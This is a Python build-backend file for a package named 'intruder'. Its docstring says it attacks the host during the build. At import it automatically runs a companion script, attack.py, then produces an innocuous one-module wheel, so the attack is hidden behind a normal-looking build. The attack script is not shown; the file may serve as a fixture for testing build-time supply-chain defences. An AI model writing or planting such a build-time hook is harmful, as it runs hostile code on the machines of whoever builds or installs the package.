"""A PEP 517 build backend of the app's own: it attacks the host while the build runs, then
builds a one-module wheel."""
import base64
import hashlib
import os
import subprocess
import sys
import zipfile

subprocess.run([sys.executable, os.path.join(os.path.dirname(os.path.abspath(__file__)), "attack.py"), "build"])

NAME, VERSION = "intruder", "1.0"


def get_requires_for_build_wheel(config_settings=None):
    return []


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    files = {f"{NAME}_mod.py": b"VALUE = 1\n",
             f"{NAME}-{VERSION}.dist-info/METADATA": f"Metadata-Version: 2.1\nName: {NAME}\nVersion: {VERSION}\n".encode(),
             f"{NAME}-{VERSION}.dist-info/WHEEL": b"Wheel-Version: 1.0\nGenerator: backend\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
    record = [f"{path},sha256={base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b'=').decode()},{len(data)}"
              for path, data in files.items()]
    files[f"{NAME}-{VERSION}.dist-info/RECORD"] = ("\n".join(record + [f"{NAME}-{VERSION}.dist-info/RECORD,,"]) + "\n").encode()
    name = f"{NAME}-{VERSION}-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as wheel:
        for path, data in files.items():
            wheel.writestr(path, data)
    return name
